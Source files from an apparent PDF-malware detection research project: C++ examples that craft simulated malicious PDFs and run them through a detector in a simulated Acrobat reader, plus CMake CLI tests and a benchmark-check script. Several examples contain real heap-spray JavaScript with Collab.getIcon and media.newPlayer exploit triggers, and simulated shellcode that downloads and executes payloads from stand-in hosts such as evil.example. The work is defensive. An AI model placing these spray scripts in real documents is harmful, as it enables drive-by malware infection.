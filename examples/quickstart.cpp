// Quickstart: the whole pdfshield pipeline in one page of code.
//
//   1. craft a malicious PDF (heap spray + Collab.getIcon exploit that
//      drops and runs malware);
//   2. run the static front-end: feature extraction + document
//      instrumentation;
//   3. open the instrumented file in the simulated Acrobat 9 with the
//      runtime detector attached;
//   4. read the verdict and see what the confinement layer did.
//
// Build & run:  ./build/examples/quickstart
#include <iostream>

#include "core/detector.hpp"
#include "core/pipeline.hpp"
#include "corpus/builders.hpp"
#include "reader/reader_sim.hpp"
#include "reader/shellcode.hpp"
#include "sys/kernel.hpp"

using namespace pdfshield;

int main() {
  // --- 1. a malicious document ----------------------------------------------
  support::Rng rng(2014);
  reader::ShellcodeProgram shellcode;
  shellcode.ops.push_back({"DROP", {"http://evil.example/payload.exe",
                                    "c:/temp/payload.exe"}});
  shellcode.ops.push_back({"EXEC", {"c:/temp/payload.exe"}});

  corpus::DocumentBuilder builder(rng);
  builder.add_blank_page();
  builder.set_open_action_js(
      "var unit = unescape('%u9090%u9090') + '" +
      reader::encode_shellcode(shellcode) + "';"
      "var spray = unit;"
      "while (spray.length < 2097152) spray += spray;"  // ~128 MB reported
      "var keep = spray;"
      "Collab.getIcon(keep.substring(0, 1500));");
  const support::Bytes evil_pdf = builder.build();
  std::cout << "crafted malicious PDF: " << evil_pdf.size() << " bytes\n";

  // --- 2. static front-end ----------------------------------------------------
  sys::Kernel kernel;
  core::RuntimeDetector detector(kernel, rng);
  core::FrontEnd frontend(rng, detector.detector_id());

  core::FrontEndResult fe = frontend.process(evil_pdf);
  std::cout << "static features: chain-ratio="
            << fe.features.js_chain_ratio
            << " header-obf=" << fe.features.f2()
            << " hex=" << fe.features.f3()
            << " -> " << fe.record.entries.size()
            << " script(s) instrumented under key "
            << fe.record.key.combined() << "\n";

  // --- 3. open in the monitored reader -----------------------------------------
  reader::ReaderSim reader(kernel);  // Acrobat 9 simulator
  detector.attach(reader);           // installs IAT hooks + SOAP endpoint
  detector.register_document(fe.record.key, "invoice.pdf", fe.features);
  reader.open_document(fe.output, "invoice.pdf");

  // --- 4. verdict + confinement --------------------------------------------------
  const core::Verdict verdict = detector.verdict(fe.record.key);
  std::cout << "\nverdict: " << (verdict.malicious ? "MALICIOUS" : "benign")
            << " (malscore " << verdict.malscore << ")\n";
  for (const auto& line : verdict.evidence) std::cout << "  - " << line << "\n";

  std::cout << "\nfile system after confinement:\n";
  for (const auto& path : kernel.fs().list()) {
    std::cout << "  " << path
              << (sys::VirtualFileSystem::is_quarantined(path) ? "  [quarantined]"
                                                               : "")
              << "\n";
  }
  for (const auto& [pid, proc] : kernel.processes()) {
    if (proc->image() != "AcroRd32.exe") {
      std::cout << "process " << proc->image() << " sandboxed="
                << proc->sandboxed() << " terminated=" << proc->terminated()
                << "\n";
    }
  }
  return verdict.malicious ? 0 : 1;
}
