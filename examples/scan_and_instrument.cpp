// scan_and_instrument: a command-line front-end in the spirit of the
// paper's Phase-I tool. Reads a PDF (or generates a demo document when run
// without arguments), prints its Javascript chains and static features,
// writes the instrumented version next to it, and demonstrates
// de-instrumentation restoring the original scripts.
//
// Usage:
//   ./build/examples/scan_and_instrument [input.pdf [output.pdf]]
#include <fstream>
#include <iostream>

#include "core/pipeline.hpp"
#include "corpus/builders.hpp"
#include "pdf/parser.hpp"
#include "pdf/writer.hpp"
#include "support/table.hpp"

using namespace pdfshield;

namespace {

support::Bytes read_file(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  if (!in) throw support::Error("cannot open " + path);
  return support::Bytes(std::istreambuf_iterator<char>(in),
                        std::istreambuf_iterator<char>());
}

void write_file(const std::string& path, const support::Bytes& data) {
  std::ofstream out(path, std::ios::binary);
  out.write(reinterpret_cast<const char*>(data.data()),
            static_cast<std::streamsize>(data.size()));
}

support::Bytes demo_document() {
  support::Rng rng(7);
  corpus::DocumentBuilder builder(rng);
  builder.add_pages(2, 600);
  builder.set_info("Title", "Demo form");
  builder.add_form_field("total", "120");
  builder.set_open_action_js(
      "var v = Number(this.getField('total').value);"
      "if (isNaN(v)) app.alert('bad total');");
  builder.add_named_js("helper", "var ready = true;");
  return builder.build();
}

}  // namespace

int main(int argc, char** argv) {
  try {
    support::Bytes input;
    std::string in_name = "<generated demo>";
    if (argc > 1) {
      in_name = argv[1];
      input = read_file(in_name);
    } else {
      input = demo_document();
    }
    const std::string out_name =
        argc > 2 ? argv[2] : "instrumented-output.pdf";

    std::cout << "scanning " << in_name << " (" << input.size() << " bytes)\n";

    // Inspect the Javascript chains before instrumenting.
    pdf::Document preview = pdf::parse_document(input);
    const core::JsChainAnalysis chains = core::analyze_js_chains(preview);
    support::TextTable sites({"object", "triggered", "sequence", "source (head)"});
    for (const auto& site : chains.sites) {
      std::string head = site.source.substr(0, 48);
      for (char& c : head) {
        if (c == '\n') c = ' ';
      }
      sites.add_row({std::to_string(site.object_num),
                     site.triggered ? "yes" : "no",
                     std::to_string(site.sequence_id) + "#" +
                         std::to_string(site.sequence_pos),
                     head});
    }
    std::cout << sites.render("Javascript chains (" +
                              std::to_string(chains.chain_objects.size()) +
                              " of " + std::to_string(chains.total_objects) +
                              " objects on chains)");

    // Full front-end pipeline.
    support::Rng rng(99);
    core::FrontEnd frontend(rng, core::generate_detector_id(rng));
    core::FrontEndResult result = frontend.process(input);
    if (!result.ok) {
      std::cerr << "not a PDF: " << result.error << "\n";
      return 1;
    }

    support::TextTable features({"feature", "raw value", "binary"});
    features.add_row({"F1 js-chain ratio",
                      std::to_string(result.features.js_chain_ratio),
                      result.features.f1() ? "1" : "0"});
    features.add_row({"F2 header obfuscation", "-",
                      result.features.f2() ? "1" : "0"});
    features.add_row({"F3 hex code in keyword", "-",
                      result.features.f3() ? "1" : "0"});
    features.add_row({"F4 empty objects",
                      std::to_string(result.features.empty_object_count),
                      result.features.f4() ? "1" : "0"});
    features.add_row({"F5 encoding levels",
                      std::to_string(result.features.max_encoding_levels),
                      result.features.f5() ? "1" : "0"});
    std::cout << features.render("Static features");

    std::cout << "instrumented " << result.record.entries.size()
              << " script(s); document key " << result.record.key.combined()
              << "\n";
    std::cout << "phase timings: parse+decompress "
              << result.timings.parse_decompress_s << " s, features "
              << result.timings.feature_extraction_s << " s, instrumentation "
              << result.timings.instrumentation_s << " s\n";

    write_file(out_name, result.output);
    std::cout << "wrote " << out_name << " (" << result.output.size()
              << " bytes)\n";

    // De-instrumentation round-trip (what happens after a benign verdict).
    pdf::Document instrumented = pdf::parse_document(result.output);
    core::Instrumenter::deinstrument(instrumented, result.record);
    const core::JsChainAnalysis restored = core::analyze_js_chains(instrumented);
    bool matches = restored.sites.size() == chains.sites.size();
    for (std::size_t i = 0; matches && i < restored.sites.size(); ++i) {
      matches = restored.sites[i].source == chains.sites[i].source;
    }
    std::cout << "de-instrumentation restores original scripts: "
              << (matches ? "yes" : "NO") << "\n";
    return 0;
  } catch (const std::exception& e) {
    std::cerr << "error: " << e.what() << "\n";
    return 1;
  }
}
