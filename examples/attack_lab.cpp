// attack_lab: walks four attack scenarios from the paper through the full
// deployed system, narrating what the attacker attempts, what the hooks
// see, and what confinement leaves behind. A guided tour of §III-D/E and
// §IV.
//
//   scenario 1 — classic dropper (spray + Collab.getIcon + drop/exec)
//   scenario 2 — egg-hunt (embedded malware, mapped-memory search)
//   scenario 3 — out-of-JS Flash exploit (spray in JS, hijack at render)
//   scenario 4 — cross-document split attack (drop in A, execute in B)
//
// Build & run:  ./build/examples/attack_lab
#include <iostream>

#include "core/detector.hpp"
#include "core/pipeline.hpp"
#include "corpus/builders.hpp"
#include "corpus/generator.hpp"
#include "reader/reader_sim.hpp"
#include "reader/shellcode.hpp"
#include "sys/kernel.hpp"

using namespace pdfshield;

namespace {

struct Lab {
  sys::Kernel kernel;
  support::Rng rng{31337};
  core::RuntimeDetector detector{kernel, rng};
  core::FrontEnd frontend{rng, detector.detector_id()};
  reader::ReaderSim reader{kernel};

  Lab() { detector.attach(reader); }

  core::Verdict run(const support::Bytes& file, const std::string& name) {
    core::FrontEndResult fe = frontend.process(file);
    detector.register_document(fe.record.key, name, fe.features);
    reader.open_document(fe.output, name);
    return detector.verdict(fe.record.key);
  }

  void report(const std::string& name, const core::Verdict& v) {
    std::cout << "  verdict for " << name << ": "
              << (v.malicious ? "MALICIOUS" : "benign") << " (score "
              << v.malscore << ")\n";
    for (const auto& e : v.evidence) std::cout << "    " << e << "\n";
  }
};

std::string spray(const std::string& shellcode) {
  return "var unit = unescape('%u9090%u9090') + '" + shellcode + "';"
         "var spray = unit;"
         "while (spray.length < 2097152) spray += spray;"
         "var keep = spray;";
}

support::Bytes doc_with_js(support::Rng& rng, const std::string& script) {
  corpus::DocumentBuilder builder(rng);
  builder.add_blank_page();
  builder.set_open_action_js(script);
  return builder.build();
}

}  // namespace

int main() {
  // --- scenario 1: dropper -----------------------------------------------------
  std::cout << "== scenario 1: classic dropper ==\n";
  {
    Lab lab;
    reader::ShellcodeProgram prog;
    prog.ops.push_back({"DROP", {"http://evil/d.exe", "c:/d.exe"}});
    prog.ops.push_back({"EXEC", {"c:/d.exe"}});
    auto v = lab.run(doc_with_js(lab.rng,
                                 spray(reader::encode_shellcode(prog)) +
                                     "Collab.getIcon(keep.substring(0, 1500));"),
                     "dropper.pdf");
    lab.report("dropper.pdf", v);
    std::cout << "  dropped file quarantined: "
              << lab.kernel.fs().exists("quarantine://c:/d.exe") << "\n\n";
  }

  // --- scenario 2: egg-hunt ------------------------------------------------------
  std::cout << "== scenario 2: egg-hunt ==\n";
  {
    Lab lab;
    reader::ShellcodeProgram prog;
    prog.ops.push_back({"HUNT", {"32"}});
    prog.ops.push_back({"WRITE", {"c:/egg.exe", "embedded-malware"}});
    prog.ops.push_back({"EXEC", {"c:/egg.exe"}});
    auto v = lab.run(doc_with_js(lab.rng,
                                 spray(reader::encode_shellcode(prog)) +
                                     "this.media.newPlayer(null);"),
                     "egghunt.pdf");
    lab.report("egghunt.pdf", v);
    std::size_t probes = 0;
    for (const auto& e : lab.kernel.event_log()) {
      if (e.api == "NtAccessCheckAndAuditAlarm" || e.api == "IsBadReadPtr" ||
          e.api == "NtDisplayString" || e.api == "NtAddAtom") {
        ++probes;
      }
    }
    std::cout << "  egg-hunt probes observed by hooks: " << probes << "\n\n";
  }

  // --- scenario 3: out-of-JS Flash exploit -----------------------------------------
  std::cout << "== scenario 3: render-context Flash exploit ==\n";
  {
    Lab lab;
    reader::ShellcodeProgram prog;
    prog.ops.push_back({"DROP", {"http://evil/f.exe", "c:/f.exe"}});
    prog.ops.push_back({"EXEC", {"c:/f.exe"}});
    corpus::DocumentBuilder builder(lab.rng);
    builder.add_blank_page();
    builder.set_open_action_js(spray(reader::encode_shellcode(prog)));
    builder.add_render_exploit("CVE-2010-3654", "Flash");
    // Pad so the JS chain alone would not dominate the static score.
    builder.add_padding_objects(30);
    pdf::Document& d = builder.document();
    (void)d;
    auto v = lab.run(builder.build(), "flash.pdf");
    lab.report("flash.pdf", v);
    std::cout << "  note: the only in-JS evidence is memory consumption; the"
                 " out-of-JS process creation completes the score.\n\n";
  }

  // --- scenario 4: cross-document split attack --------------------------------------
  std::cout << "== scenario 4: cross-document split attack ==\n";
  {
    Lab lab;
    corpus::CorpusGenerator gen;
    auto [dropper, executor] = gen.generate_cross_document_pair();
    auto va = lab.run(dropper.data, dropper.name);
    std::cout << "  after document A (dropper only):\n";
    lab.report(dropper.name, va);
    std::cout << "  tracked executables: ";
    for (const auto& exe : lab.detector.downloaded_executables()) {
      std::cout << exe << " ";
    }
    std::cout << "\n  opening document B (executor)...\n";
    auto vb = lab.run(executor.data, executor.name);
    lab.report(executor.name, vb);
    auto va_after = lab.detector.verdict_by_name(dropper.name);
    std::cout << "  document A retroactively: "
              << (va_after.malicious ? "MALICIOUS" : "benign") << "\n";
  }
  return 0;
}
