// baseline_shootout: a compact version of the Table-IX experiment you can
// iterate on — trains every implemented detector on a small synthetic
// corpus and prints FP/TP side by side, including a mimicry round.
//
// Build & run:  ./build/examples/baseline_shootout [samples-per-class]
#include <cstdlib>
#include <iostream>
#include <memory>

#include "baselines/dynamic_baselines.hpp"
#include "baselines/static_baselines.hpp"
#include "corpus/generator.hpp"
#include "ml/metrics.hpp"
#include "support/strings.hpp"
#include "support/table.hpp"

using namespace pdfshield;

int main(int argc, char** argv) {
  const std::size_t per_class =
      argc > 1 ? static_cast<std::size_t>(std::atoi(argv[1])) : 80;

  corpus::CorpusGenerator gen;
  std::vector<corpus::Sample> all;
  for (auto& s : gen.generate_benign(per_class)) all.push_back(std::move(s));
  for (auto& s : gen.generate_malicious(per_class)) all.push_back(std::move(s));
  support::Rng rng(5);
  rng.shuffle(all);
  std::vector<corpus::Sample> train, test;
  for (std::size_t i = 0; i < all.size(); ++i) {
    (i < all.size() * 6 / 10 ? train : test).push_back(std::move(all[i]));
  }
  std::vector<corpus::Sample> mimicry;
  for (std::size_t i = 0; i < 10; ++i) mimicry.push_back(gen.make_mimicry_variant(i));

  std::vector<std::unique_ptr<baselines::Baseline>> detectors;
  detectors.push_back(std::make_unique<baselines::NgramBaseline>());
  detectors.push_back(std::make_unique<baselines::PjscanBaseline>());
  detectors.push_back(std::make_unique<baselines::StructuralBaseline>());
  detectors.push_back(std::make_unique<baselines::PdfrateBaseline>());
  detectors.push_back(std::make_unique<baselines::MdscanBaseline>());
  detectors.push_back(std::make_unique<baselines::WepawetBaseline>());
  detectors.push_back(std::make_unique<baselines::OursBaseline>());

  support::TextTable table({"detector", "FP rate", "TP rate", "mimicry"});
  for (auto& d : detectors) {
    d->train(train);
    ml::Metrics m;
    for (const auto& s : test) {
      const int guess = d->predict(s.data);
      if (s.malicious) {
        guess ? ++m.tp : ++m.fn;
      } else {
        guess ? ++m.fp : ++m.tn;
      }
    }
    std::size_t mim = 0;
    for (const auto& s : mimicry) mim += static_cast<std::size_t>(d->predict(s.data));
    table.add_row({d->name(), support::format_double(100 * m.fpr(), 2) + "%",
                   support::format_double(100 * m.tpr(), 1) + "%",
                   std::to_string(mim) + "/" + std::to_string(mimicry.size())});
  }
  std::cout << table.render("Shootout on " + std::to_string(train.size()) +
                            " train / " + std::to_string(test.size()) +
                            " test samples");
  return 0;
}
