// browser_defense: the §VI in-browser scenario end to end. A busy browser
// (several noisy web tabs, a sandboxed helper process, hundreds of MB of
// working set) progressively downloads a malicious PDF into a tab; the
// instrumented document is detected mid-download and confined, while the
// web tabs stay unblamed.
//
// Build & run:  ./build/examples/browser_defense
#include <iostream>

#include "core/detector.hpp"
#include "core/pipeline.hpp"
#include "core/report.hpp"
#include "corpus/builders.hpp"
#include "reader/browser_sim.hpp"
#include "reader/shellcode.hpp"
#include "sys/kernel.hpp"

using namespace pdfshield;

int main() {
  sys::Kernel kernel;
  support::Rng rng(66);

  core::DetectorConfig cfg;
  cfg.process_whitelist.push_back("browser-helper.exe");
  core::RuntimeDetector detector(kernel, rng, cfg);
  core::FrontEnd frontend(rng, detector.detector_id());

  reader::BrowserSim browser(kernel);
  detector.attach(browser.viewer());

  std::cout << "opening web tabs...\n";
  for (const char* url : {"https://news.example", "https://mail.example",
                          "https://docs.example", "https://video.example"}) {
    browser.open_web_page(url);
  }
  std::cout << "browser working set: "
            << browser.process().memory_bytes() / (1u << 20)
            << " MB across " << browser.tab_count()
            << " tabs (already far past any naive memory threshold)\n";

  // The attack: a drive-by PDF served from a link in the mail tab.
  reader::ShellcodeProgram prog;
  prog.ops.push_back({"DROP", {"http://mal.example/i.exe", "c:/i.exe"}});
  prog.ops.push_back({"EXEC", {"c:/i.exe"}});
  corpus::DocumentBuilder builder(rng);
  builder.add_blank_page();
  builder.set_open_action_js(
      "var unit = unescape('%u9090%u9090') + '" +
      reader::encode_shellcode(prog) + "';"
      "var spray = unit; while (spray.length < 2097152) spray += spray;"
      "var keep = spray; Collab.getIcon(keep.substring(0, 1500));");

  // A download-path proxy runs the front-end before bytes reach the tab.
  core::FrontEndResult fe = frontend.process(builder.build());
  detector.register_document(fe.record.key, "invoice.pdf", fe.features);

  std::cout << "\nstreaming invoice.pdf into a tab (5 chunks)...\n";
  auto r = browser.open_pdf_streaming(fe.output, "invoice.pdf", 5);
  std::cout << "scripts executed: " << r.scripts_executed
            << ", exploits fired: " << r.fired_cves.size() << "\n";

  std::cout << "\n" << core::document_report(detector, fe.record.key).dump(2)
            << "\n\n";
  std::cout << core::session_report(detector, kernel).dump(2) << "\n";
  return detector.verdict(fe.record.key).malicious ? 0 : 1;
}
