# Runs every pdfshield CLI subcommand against a generated corpus.
file(REMOVE_RECURSE ${WORK})
file(MAKE_DIRECTORY ${WORK})

function(run_checked)
  execute_process(COMMAND ${ARGN} WORKING_DIRECTORY ${WORK}
                  RESULT_VARIABLE rc OUTPUT_QUIET)
  if(NOT rc EQUAL 0)
    message(FATAL_ERROR "command failed (${rc}): ${ARGN}")
  endif()
endfunction()

run_checked(${CLI} corpus ${WORK} benign 2 malicious 2)
file(GLOB mal ${WORK}/malicious/*.pdf)
list(GET mal 0 sample)

run_checked(${CLI} scan ${sample})
run_checked(${CLI} instrument ${sample} ${WORK}/inst.pdf --incremental)
run_checked(${CLI} deinstrument ${WORK}/inst.pdf ${WORK}/restored.pdf
            ${WORK}/inst.pdf.psrec)

# detonate must convict the malicious sample (exit code 2).
execute_process(COMMAND ${CLI} detonate ${sample} RESULT_VARIABLE rc OUTPUT_QUIET)
if(NOT rc EQUAL 2)
  message(FATAL_ERROR "detonate expected exit 2 (malicious), got ${rc}")
endif()

file(GLOB benign ${WORK}/benign/*.pdf)
list(GET benign 0 bsample)
execute_process(COMMAND ${CLI} detonate ${bsample} RESULT_VARIABLE rc OUTPUT_QUIET)
if(NOT rc EQUAL 0)
  message(FATAL_ERROR "detonate expected exit 0 (benign), got ${rc}")
endif()

# batch over the corpus dir (manifest.csv fails per-doc, so expect exit 3
# and exactly one error in the report) — run twice at different widths and
# require byte-identical reports modulo the timing fields.
run_checked(${CLI} corpus ${WORK}/batch-corpus benign 6 malicious 6)
execute_process(COMMAND ${CLI} batch ${WORK}/batch-corpus --jobs 1
                        --out ${WORK}/report1.json
                RESULT_VARIABLE rc OUTPUT_QUIET)
if(NOT rc EQUAL 3)
  message(FATAL_ERROR "batch --jobs 1 expected exit 3 (manifest.csv error), got ${rc}")
endif()
execute_process(COMMAND ${CLI} batch ${WORK}/batch-corpus --jobs 8
                        --out ${WORK}/report8.json
                RESULT_VARIABLE rc OUTPUT_QUIET)
if(NOT rc EQUAL 3)
  message(FATAL_ERROR "batch --jobs 8 expected exit 3 (manifest.csv error), got ${rc}")
endif()
foreach(n 1 8)
  file(READ ${WORK}/report${n}.json report_json)
  if(NOT report_json MATCHES "\"errors\": 1,")
    message(FATAL_ERROR "batch report${n}.json: expected exactly one error")
  endif()
  if(NOT report_json MATCHES "\"ok\": 12,")
    message(FATAL_ERROR "batch report${n}.json: expected 12 ok documents")
  endif()
  # Strip the fields that legitimately vary between runs (worker count,
  # timings, throughput); the rest must be identical: determinism across
  # thread counts.
  string(REGEX REPLACE "\"(jobs|wall_s|docs_per_s|parse_decompress_s|feature_extraction_s|instrumentation_s|total_s)\": [0-9.e+-]+" ""
         stripped "${report_json}")
  file(WRITE ${WORK}/report${n}.stripped.json "${stripped}")
endforeach()
execute_process(COMMAND ${CMAKE_COMMAND} -E compare_files
                        ${WORK}/report1.stripped.json ${WORK}/report8.stripped.json
                RESULT_VARIABLE rc)
if(NOT rc EQUAL 0)
  message(FATAL_ERROR "batch reports differ between --jobs 1 and --jobs 8")
endif()

# --- trace spine ------------------------------------------------------------
# scan --trace writes a JSONL event stream alongside the normal report.
run_checked(${CLI} scan ${sample} --trace ${WORK}/scan-trace.jsonl)
file(READ ${WORK}/scan-trace.jsonl scan_trace)
if(NOT scan_trace MATCHES "\"kind\":\"phase-span\"")
  message(FATAL_ERROR "scan --trace: no phase-span events in scan-trace.jsonl")
endif()
if(NOT scan_trace MATCHES "\"kind\":\"doc-verdict\"")
  message(FATAL_ERROR "scan --trace: no doc-verdict event in scan-trace.jsonl")
endif()

# batch --detonate --trace must produce a parseable JSONL file whose events
# cover the detonation path: api-call, soap-message, phase-span, and
# doc-verdict, every one correlated back to a document id.
execute_process(COMMAND ${CLI} batch ${WORK}/batch-corpus --jobs 4 --detonate
                        --trace ${WORK}/batch-trace.jsonl
                        --out ${WORK}/report-traced.json
                RESULT_VARIABLE rc OUTPUT_QUIET)
if(NOT rc EQUAL 3)
  message(FATAL_ERROR "batch --trace expected exit 3 (manifest.csv error), got ${rc}")
endif()
file(READ ${WORK}/batch-trace.jsonl batch_trace)
foreach(kind api-call soap-message phase-span doc-verdict feature-fire)
  if(NOT batch_trace MATCHES "\"kind\":\"${kind}\"")
    message(FATAL_ERROR "batch --trace: no ${kind} events in batch-trace.jsonl")
  endif()
endforeach()
if(NOT batch_trace MATCHES "\"doc\":\"[^\"]+\\.pdf\"")
  message(FATAL_ERROR "batch --trace: events are not correlated to a document id")
endif()
file(READ ${WORK}/report-traced.json traced_report)
if(NOT traced_report MATCHES "\"trace_events\": [1-9]")
  message(FATAL_ERROR "batch --trace: report carries no trace_events summary")
endif()

# --- serve ------------------------------------------------------------------
# Spool-fed daemon run: every corpus document gets exactly one JSONL
# response, responses are admission/degradation-traced, and the daemon
# exits on its own once the spool drains (--max-docs + --idle-exit).
file(MAKE_DIRECTORY ${WORK}/spool)
file(GLOB spool_src ${WORK}/batch-corpus/benign/*.pdf
                    ${WORK}/batch-corpus/malicious/*.pdf)
list(LENGTH spool_src spool_n)
file(COPY ${spool_src} DESTINATION ${WORK}/spool)
run_checked(${CLI} serve --spool ${WORK}/spool --jobs 2
            --out ${WORK}/serve-responses.jsonl
            --trace ${WORK}/serve-trace.jsonl
            --max-docs ${spool_n} --idle-exit 30)
file(READ ${WORK}/serve-responses.jsonl serve_responses)
string(REGEX MATCHALL "\"accepted\":true" serve_ok "${serve_responses}")
list(LENGTH serve_ok serve_ok_n)
if(NOT serve_ok_n EQUAL spool_n)
  message(FATAL_ERROR "serve: expected ${spool_n} responses, got ${serve_ok_n}")
endif()
if(NOT serve_responses MATCHES "\"malicious\":true")
  message(FATAL_ERROR "serve: no malicious verdict over a malicious corpus")
endif()
file(READ ${WORK}/serve-trace.jsonl serve_trace)
if(NOT serve_trace MATCHES "\"kind\":\"admission\"")
  message(FATAL_ERROR "serve --trace: no admission events in serve-trace.jsonl")
endif()
file(GLOB spool_leftover ${WORK}/spool/*.pdf)
if(spool_leftover)
  message(FATAL_ERROR "serve: spool not drained: ${spool_leftover}")
endif()

# Every line must parse as a JSON object (string(JSON) needs CMake >= 3.19;
# older configurations fall back to the regex checks above).
if(CMAKE_VERSION VERSION_GREATER_EQUAL 3.19)
  string(REPLACE ";" "\\;" batch_trace_escaped "${batch_trace}")
  string(REPLACE "\n" ";" trace_lines "${batch_trace_escaped}")
  set(parsed 0)
  foreach(line IN LISTS trace_lines)
    if(line STREQUAL "")
      continue()
    endif()
    string(JSON kind ERROR_VARIABLE json_err GET "${line}" kind)
    if(json_err)
      message(FATAL_ERROR "batch --trace: unparseable JSONL line: ${line}")
    endif()
    math(EXPR parsed "${parsed} + 1")
  endforeach()
  if(parsed LESS 10)
    message(FATAL_ERROR "batch --trace: only ${parsed} JSONL lines parsed")
  endif()
endif()
