# Runs every pdfshield CLI subcommand against a generated corpus.
file(REMOVE_RECURSE ${WORK})
file(MAKE_DIRECTORY ${WORK})

function(run_checked)
  execute_process(COMMAND ${ARGN} WORKING_DIRECTORY ${WORK}
                  RESULT_VARIABLE rc OUTPUT_QUIET)
  if(NOT rc EQUAL 0)
    message(FATAL_ERROR "command failed (${rc}): ${ARGN}")
  endif()
endfunction()

run_checked(${CLI} corpus ${WORK} benign 2 malicious 2)
file(GLOB mal ${WORK}/malicious/*.pdf)
list(GET mal 0 sample)

run_checked(${CLI} scan ${sample})
run_checked(${CLI} instrument ${sample} ${WORK}/inst.pdf --incremental)
run_checked(${CLI} deinstrument ${WORK}/inst.pdf ${WORK}/restored.pdf
            ${WORK}/inst.pdf.psrec)

# detonate must convict the malicious sample (exit code 2).
execute_process(COMMAND ${CLI} detonate ${sample} RESULT_VARIABLE rc OUTPUT_QUIET)
if(NOT rc EQUAL 2)
  message(FATAL_ERROR "detonate expected exit 2 (malicious), got ${rc}")
endif()

file(GLOB benign ${WORK}/benign/*.pdf)
list(GET benign 0 bsample)
execute_process(COMMAND ${CLI} detonate ${bsample} RESULT_VARIABLE rc OUTPUT_QUIET)
if(NOT rc EQUAL 0)
  message(FATAL_ERROR "detonate expected exit 0 (benign), got ${rc}")
endif()
