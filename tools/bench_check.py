#!/usr/bin/env python3
"""Compare a freshly measured BENCH_*.json against a checked-in baseline.

Usage:
    bench_check.py BASELINE CURRENT [--gate NAME ...] [--max-regression PCT]

Both files use the trajectory format written by bench::bench_to_json:

    {"suite": "...", "scale": "...",
     "benchmarks": [{"name": "...", "value": 1.0, "unit": "..."}, ...]}

Every benchmark present in both files is reported with its delta. Only the
gated names can fail the check: a gated higher-is-better metric that drops
more than --max-regression percent (default 30) below the baseline exits
non-zero. Without an explicit --gate the gate list is picked from the
current file's "suite" field (flate -> the 1 MiB decompress fast path,
batch_throughput -> serial docs/s). CI runners are noisy, so the gate is
deliberately loose — it exists to catch algorithmic regressions (a lost
fast path), not scheduling jitter.
"""

import argparse
import json
import sys

SUITE_GATES = {
    "flate": ["BM_FlateDecompress/1048576"],
    "batch_throughput": ["BatchScan/jobs:1/docs_per_s"],
    # Parse suite gates both directions: throughput must not fall, and the
    # arena-reuse path must stay frugal (allocations and arena footprint
    # per document must not grow).
    "parse": [
        "BM_ParseDocument/pages:100/bytes_per_s",
        "BM_ParseDocumentReuse/pages:100/allocs_per_doc",
        "BM_ParseDocumentReuse/pages:100/arena_bytes_per_doc",
    ],
}
FALLBACK_GATES = ["BM_FlateDecompress/1048576"]
# Units where a smaller current value means a regression.
HIGHER_IS_BETTER = {"bytes_per_second", "docs_per_second", "x_vs_serial"}
# Units where a larger current value means a regression (cost metrics).
LOWER_IS_BETTER = {"allocs_per_doc", "arena_bytes_per_doc"}


def load(path):
    with open(path, "r", encoding="utf-8") as fh:
        doc = json.load(fh)
    out = {}
    for entry in doc.get("benchmarks", []):
        out[entry["name"]] = (float(entry["value"]), entry.get("unit", ""))
    return out, doc.get("suite", "")


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("baseline")
    parser.add_argument("current")
    parser.add_argument("--gate", action="append", default=None,
                        help="benchmark name that may fail the check "
                             "(repeatable; default chosen per suite)")
    parser.add_argument("--max-regression", type=float, default=30.0,
                        help="allowed drop in percent for gated benchmarks")
    args = parser.parse_args()

    baseline, _ = load(args.baseline)
    current, suite = load(args.current)
    if args.gate is not None:
        gates = args.gate
    else:
        gates = SUITE_GATES.get(suite, FALLBACK_GATES)

    failures = []
    width = max((len(n) for n in current), default=10)
    for name in sorted(set(baseline) | set(current)):
        if name not in baseline:
            print("%-*s  NEW  %.5g" % (width, name, current[name][0]))
            continue
        if name not in current:
            print("%-*s  GONE (was %.5g)" % (width, name, baseline[name][0]))
            if name in gates:
                failures.append("%s: missing from current results" % name)
            continue
        base_value, unit = baseline[name]
        cur_value, _ = current[name]
        if base_value == 0:
            # A zero baseline is meaningful for cost metrics (steady-state
            # allocs); any growth from zero is infinite regression.
            delta_pct = 0.0 if cur_value == 0 else float("inf")
        else:
            delta_pct = (cur_value - base_value) / base_value * 100.0
        gated = name in gates
        regressed = ((unit in HIGHER_IS_BETTER
                      and delta_pct < -args.max_regression)
                     or (unit in LOWER_IS_BETTER
                         and delta_pct > args.max_regression))
        marker = ""
        if gated and regressed:
            marker = "  FAIL (> %.0f%% below baseline)" % args.max_regression
            failures.append("%s: %.5g -> %.5g (%+.1f%%)"
                            % (name, base_value, cur_value, delta_pct))
        elif regressed:
            marker = "  (regressed, not gated)"
        print("%-*s  %+7.1f%%  %.5g -> %.5g%s"
              % (width, name, delta_pct, base_value, cur_value, marker))

    for name in gates:
        if name not in baseline and name not in current:
            failures.append("%s: gated benchmark absent from both files"
                            % name)

    if failures:
        print("\nbench_check: FAIL")
        for f in failures:
            print("  " + f)
        return 1
    print("\nbench_check: OK (gates: %s)" % ", ".join(gates))
    return 0


if __name__ == "__main__":
    sys.exit(main())
