#!/usr/bin/env python3
"""Compare a freshly measured BENCH_*.json against a checked-in baseline.

Usage:
    bench_check.py BASELINE CURRENT [--gate NAME ...] [--max-regression PCT]

Both files use the trajectory format written by bench::bench_to_json:

    {"suite": "...", "scale": "...",
     "benchmarks": [{"name": "...", "value": 1.0, "unit": "..."}, ...]}

Every benchmark present in both files is reported with its delta. Only the
gated names can fail the check: a gated higher-is-better metric that drops
more than --max-regression percent (default 30) below the baseline exits
non-zero. Without an explicit --gate the gate list is picked from the
current file's "suite" field (flate -> the 1 MiB decompress fast path,
batch_throughput -> serial docs/s). CI runners are noisy, so the gate is
deliberately loose — it exists to catch algorithmic regressions (a lost
fast path), not scheduling jitter.
"""

import argparse
import json
import sys

SUITE_GATES = {
    # Flate gates the whole-stream fast path plus the checksum kernels
    # behind it: a lost SIMD dispatch (adler) or slicing table (crc) shows
    # up in the kernel lines long before the stream number moves.
    "flate": [
        "BM_FlateDecompress/1048576",
        "BM_Adler32/1048576",
        "BM_Crc32/1048576",
    ],
    "batch_throughput": ["BatchScan/jobs:1/docs_per_s"],
    # Parse suite gates both directions: throughput must not fall, and the
    # arena-reuse path must stay frugal (allocations and arena footprint
    # per document must not grow). The xref line guards the batched
    # fixed-width record parse.
    "parse": [
        "BM_ParseDocument/pages:100/bytes_per_s",
        "BM_ParseDocumentReuse/pages:100/allocs_per_doc",
        "BM_ParseDocumentReuse/pages:100/arena_bytes_per_doc",
